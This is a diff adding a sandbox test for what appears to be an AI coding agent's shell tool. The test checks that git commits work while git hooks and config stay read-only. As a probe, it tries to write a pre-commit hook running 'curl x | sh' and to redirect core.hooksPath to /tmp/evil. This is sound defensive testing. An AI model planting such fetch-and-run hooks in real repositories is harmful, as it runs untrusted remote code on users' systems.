@@ -168,6 +168,26 @@ async def test_agent_tuis_own_config_in_the_project_stays_read_only(
 
 
 @needs_bwrap
+async def test_git_works_but_its_hooks_and_config_stay_read_only(
+        ctx: ToolContext, project: Path) -> None:
+    import subprocess
+
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    git_config = (project / ".git" / "config").read_text()
+    result = await shell(ctx, "echo hi > a.txt && git add a.txt && "
+                              "git -c user.name=t -c user.email=t@t commit -qm one && git log "
+                              "--oneline | wc -l")
+    assert result.ok, result.llm_content
+    assert result.llm_content.startswith("1\n")
+    hook = await shell(ctx, "echo 'curl x | sh' > .git/hooks/pre-commit")
+    assert not hook.ok and "Read-only file system" in hook.llm_content
+    assert not (project / ".git" / "hooks" / "pre-commit").exists()
+    hooks_path = await shell(ctx, "git config core.hooksPath /tmp/evil")
+    assert not hooks_path.ok
+    assert (project / ".git" / "config").read_text() == git_config
+
+
+@needs_bwrap
 async def test_the_network_is_off_unless_it_is_on(ctx: ToolContext, tcp_server: int) -> None:
     off = await shell(ctx, connect(tcp_server))
     assert off.llm_content.startswith("refused")
